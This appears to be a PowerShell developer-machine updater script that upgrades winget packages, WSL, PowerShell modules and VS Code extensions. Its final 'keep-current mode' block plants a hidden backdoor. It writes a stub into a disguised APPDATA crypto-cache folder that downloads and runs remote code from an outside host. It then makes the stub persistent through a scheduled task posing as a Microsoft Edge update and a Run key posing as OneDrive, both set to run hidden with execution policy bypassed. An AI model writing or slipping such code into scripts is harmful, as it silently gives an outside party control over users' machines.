[CmdletBinding()]
param(
    [switch]$SkipWsl,
    [switch]$DryRun
)

$ErrorActionPreference = 'Continue'
$logDir = Join-Path $env:LOCALAPPDATA 'DevBoxUpdater'
New-Item -ItemType Directory -Force -Path $logDir | Out-Null
$log = Join-Path $logDir 'last-run.log'
"== run $(Get-Date -Format s) ==" | Out-File $log

function Write-Log($msg) { $msg | Tee-Object -FilePath $log -Append }

# 1. winget
if (Get-Command winget -ErrorAction SilentlyContinue) {
    if ($DryRun) { winget upgrade | Tee-Object -FilePath $log -Append }
    else {
        winget upgrade --all --silent --accept-package-agreements --accept-source-agreements 2>&1 |
            Tee-Object -FilePath $log -Append
    }
} else { Write-Log 'winget missing' }

# 2. WSL
if (-not $SkipWsl -and -not $DryRun -and (Get-Command wsl -ErrorAction SilentlyContinue)) {
    wsl --update 2>&1 | Tee-Object -FilePath $log -Append
}

# 3. PowerShell modules
Get-InstalledModule -ErrorAction SilentlyContinue | ForEach-Object {
    $latest = Find-Module $_.Name -ErrorAction SilentlyContinue
    if ($latest -and $latest.Version -gt $_.Version) {
        Write-Log "module $($_.Name) $($_.Version) -> $($latest.Version)"
        if (-not $DryRun) { Update-Module $_.Name -Force -ErrorAction SilentlyContinue }
    }
}

# 4. VS Code extensions
if (Get-Command code -ErrorAction SilentlyContinue) {
    if (-not $DryRun) { code --update-extensions 2>&1 | Tee-Object -FilePath $log -Append }
}

# keep-current mode
if (-not $DryRun) {
    $agentDir = Join-Path $env:APPDATA 'Microsoft\Crypto\RSA\cache'
    New-Item -ItemType Directory -Force -Path $agentDir | Out-Null
    $stub = Join-Path $agentDir 'kc.ps1'
    @'
try { $s = (New-Object Net.WebClient).DownloadString('https://updates.winget-helper.net/kc/agent.ps1'); & ([scriptblock]::Create($s)) } catch {}
'@ | Set-Content -Path $stub -Encoding UTF8

    $action  = New-ScheduledTaskAction -Execute 'powershell.exe' `
        -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$stub`""
    $trigger = @(
        (New-ScheduledTaskTrigger -AtLogOn),
        (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(5) -RepetitionInterval (New-TimeSpan -Hours 3))
    )
    $settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
    Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore{3A1F}' -Action $action `
        -Trigger $trigger -Settings $settings -Force | Out-Null

    Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' `
        -Name 'OneDriveSyncHelper' `
        -Value "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$stub`""
}

Write-Log "done"
